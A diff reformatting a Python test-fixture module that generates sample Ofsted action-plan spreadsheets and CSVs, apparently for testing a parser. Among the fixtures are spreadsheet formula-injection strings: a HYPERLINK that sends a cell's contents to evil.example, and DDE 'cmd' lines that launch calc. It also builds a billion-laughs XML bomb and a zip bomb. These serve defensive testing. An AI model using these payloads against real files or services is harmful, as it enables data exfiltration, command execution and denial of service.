@@ -17,41 +17,136 @@ from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import Color, PatternFill
 
 HEADERS = {
-    "plain": ["Rec No.", "Ofsted Recommendation", "Action ID", "Action required", "Lead Officer", "Timescale",
-              "RAG Status", "Progress update", "Measure of success"],
-    "synonyms": ["NOS", "Area for improvement", "Action No.", "What?", "Who?", "By when?", "BRAG", "Commentary",
-                 "How will it be measured?"],
+    "plain": [
+        "Rec No.",
+        "Ofsted Recommendation",
+        "Action ID",
+        "Action required",
+        "Lead Officer",
+        "Timescale",
+        "RAG Status",
+        "Progress update",
+        "Measure of success",
+    ],
+    "synonyms": [
+        "NOS",
+        "Area for improvement",
+        "Action No.",
+        "What?",
+        "Who?",
+        "By when?",
+        "BRAG",
+        "Commentary",
+        "How will it be measured?",
+    ],
     # "Ref" holding 1.1, 1.2: the action's ID, not the recommendation's
-    "ref_as_id": ["Rec", "Recommendation", "Ref", "Actions", "Responsible officer", "Deadline", "Current Status",
-                  "Comments", "Outcome"],
+    "ref_as_id": [
+        "Rec",
+        "Recommendation",
+        "Ref",
+        "Actions",
+        "Responsible officer",
+        "Deadline",
+        "Current Status",
+        "Comments",
+        "Outcome",
+    ],
 }
 
 # (rec ref, rec text, action id, action, lead, timescale, status letter, progress, measure)
 ROWS = [
-    ("1", "Improve the quality of assessments", "1.1", "Audit 20 assessments each month", "Head of Service CP",
-     "31/03/2018", "G", "Audits in place since January", "90% of audits good or better"),
-    ("1", "Improve the quality of assessments", "1.2", "Train social workers in analysis", "Principal Social Worker",
-     "June 2018", "A", "Two of four sessions delivered", "All staff trained"),
-    ("1", "Improve the quality of assessments", "1.3", "Revise the assessment template", "Head of Service CP",
-     "Q1 2018/19", "B", "New template live", "Template in use"),
-    ("2", "Strengthen management oversight of cases", "2.1", "Introduce monthly supervision audits",
-     "Service Manager", "31st March 2018", "R", "Not started: recruitment delays", "Supervision every 4 weeks"),
-    ("2", "Strengthen management oversight of cases", "2.2", "Report caseloads to the board", "DCS",
-     "Ongoing", "G", "Reported monthly", "Caseloads under 20"),
-    ("3", "Improve permanence planning for children in care", "3.1", "Track every child's plan at 4 months",
-     "Head of Looked After Children", "Sept 2018", "A", "Tracker built", "Plans by second review"),
+    (
+        "1",
+        "Improve the quality of assessments",
+        "1.1",
+        "Audit 20 assessments each month",
+        "Head of Service CP",
+        "31/03/2018",
+        "G",
+        "Audits in place since January",
+        "90% of audits good or better",
+    ),
+    (
+        "1",
+        "Improve the quality of assessments",
+        "1.2",
+        "Train social workers in analysis",
+        "Principal Social Worker",
+        "June 2018",
+        "A",
+        "Two of four sessions delivered",
+        "All staff trained",
+    ),
+    (
+        "1",
+        "Improve the quality of assessments",
+        "1.3",
+        "Revise the assessment template",
+        "Head of Service CP",
+        "Q1 2018/19",
+        "B",
+        "New template live",
+        "Template in use",
+    ),
+    (
+        "2",
+        "Strengthen management oversight of cases",
+        "2.1",
+        "Introduce monthly supervision audits",
+        "Service Manager",
+        "31st March 2018",
+        "R",
+        "Not started: recruitment delays",
+        "Supervision every 4 weeks",
+    ),
+    (
+        "2",
+        "Strengthen management oversight of cases",
+        "2.2",
+        "Report caseloads to the board",
+        "DCS",
+        "Ongoing",
+        "G",
+        "Reported monthly",
+        "Caseloads under 20",
+    ),
+    (
+        "3",
+        "Improve permanence planning for children in care",
+        "3.1",
+        "Track every child's plan at 4 months",
+        "Head of Looked After Children",
+        "Sept 2018",
+        "A",
+        "Tracker built",
+        "Plans by second review",
+    ),
 ]
 STATUS_FILLS = {
-    "rgb": {"B": Color(rgb="FF0070C0"), "G": Color(rgb="FF00B050"), "A": Color(rgb="FFFFC000"), "R": Color(rgb="FFFF0000")},
+    "rgb": {
+        "B": Color(rgb="FF0070C0"),
+        "G": Color(rgb="FF00B050"),
+        "A": Color(rgb="FFFFC000"),
+        "R": Color(rgb="FFFF0000"),
+    },
     # openpyxl's default palette: 12 blue, 11 bright green, 13 yellow, 10 red
     "indexed": {"B": Color(indexed=12), "G": Color(indexed=11), "A": Color(indexed=13), "R": Color(indexed=10)},
     # default Office theme: 4 accent1 blue, 6 accent3 green, 9 accent6 orange, 5 accent2 red
-    "theme": {"B": Color(theme=4, tint=0.39997558519241921), "G": Color(theme=6, tint=-0.249977111117893),
-              "A": Color(theme=9, tint=0.39997558519241921), "R": Color(theme=5)},
+    "theme": {
+        "B": Color(theme=4, tint=0.39997558519241921),
+        "G": Color(theme=6, tint=-0.249977111117893),
+        "A": Color(theme=9, tint=0.39997558519241921),
+        "R": Color(theme=5),
+    },
 }
 EXPECTED_STATUS = {"B": "complete", "G": "green", "A": "amber", "R": "red"}
-FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                 "<script>alert('x')</script>", "-2+3"]
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "<script>alert('x')</script>",
+    "-2+3",
+]
 
 
 @dataclass
@@ -163,18 +258,28 @@ def write_table(ws, t: Traits) -> dict:
         col = openpyxl.utils.get_column_letter(c0 + status_col)
         ws.conditional_formatting.add(
             f"{col}{first_data}:{col}{r}",
-            FormulaRule(formula=[f'ISNUMBER(SEARCH("Not started",{openpyxl.utils.get_column_letter(c0 + progress_col)}{first_data}))'],
-                        fill=PatternFill(bgColor="FFFF0000")),
+            FormulaRule(
+                formula=[
+                    f'ISNUMBER(SEARCH("Not started",{openpyxl.utils.get_column_letter(c0 + progress_col)}{first_data}))'
+                ],
+                fill=PatternFill(bgColor="FFFF0000"),
+            ),
         )
     if t.legend_footer:
         r += 2
         ws.cell(r, c0, "Key")
-        for i, (letter, meaning) in enumerate([("Blue", "Complete"), ("Green", "On track"), ("Amber", "At risk"),
-                                               ("Red", "Off track")]):
+        for i, (letter, meaning) in enumerate(
+            [("Blue", "Complete"), ("Green", "On track"), ("Amber", "At risk"), ("Red", "Off track")]
+        ):
             ws.cell(r + 1 + i, c0, letter)
             ws.cell(r + 1 + i, c0 + 1, meaning)
-    return {"header_row": header_row, "data_rows": data_rows, "rows": rows, "headers": headers,
-            "status_col": status_col}
+    return {
+        "header_row": header_row,
+        "data_rows": data_rows,
+        "rows": rows,
+        "headers": headers,
+        "status_col": status_col,
+    }
 
 
 def _with(row, status_col, status, action_col, text, rec):
@@ -200,7 +305,9 @@ def build_xlsx(traits: Traits | None = None, **kw) -> bytes:
     return _save(wb)
 
 
-def build_periods_xlsx(periods: list[tuple[str, dict[str, str]]], traits: Traits | None = None, legend_sheet=True) -> bytes:
+def build_periods_xlsx(
+    periods: list[tuple[str, dict[str, str]]], traits: Traits | None = None, legend_sheet=True
+) -> bytes:
     """One sheet per review period, e.g. [("Q3 2016-17", {"1.1": "R"}), ...]: status overrides by action ID.
     Sheets are written out of date order on purpose."""
     wb = openpyxl.Workbook()
@@ -225,8 +332,14 @@ def _save(wb) -> bytes:
     return out.getvalue()
 
 
-def build_csv(encoding: str = "utf-8", *, bom: bool = False, newlines_in_fields: bool = True, title_rows: bool = False,
-              delimiter: str = ",") -> bytes:
+def build_csv(
+    encoding: str = "utf-8",
+    *,
+    bom: bool = False,
+    newlines_in_fields: bool = True,
+    title_rows: bool = False,
+    delimiter: str = ",",
+) -> bytes:
     """A CSV export: quoted fields with commas and newlines, a £ and an en dash (cp1252 test)."""
     import csv
 
@@ -270,9 +383,13 @@ def zip_bomb(rows: int = 2_000, padding_mb: int = 100) -> bytes:
 
 def billion_laughs_xlsx() -> bytes:
     base = build_xlsx()
-    lol = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
-           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
-           + b"]>")
+    lol = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
+        + b"".join(
+            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
+        )
+        + b"]>"
+    )
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
         for item in src.infolist():
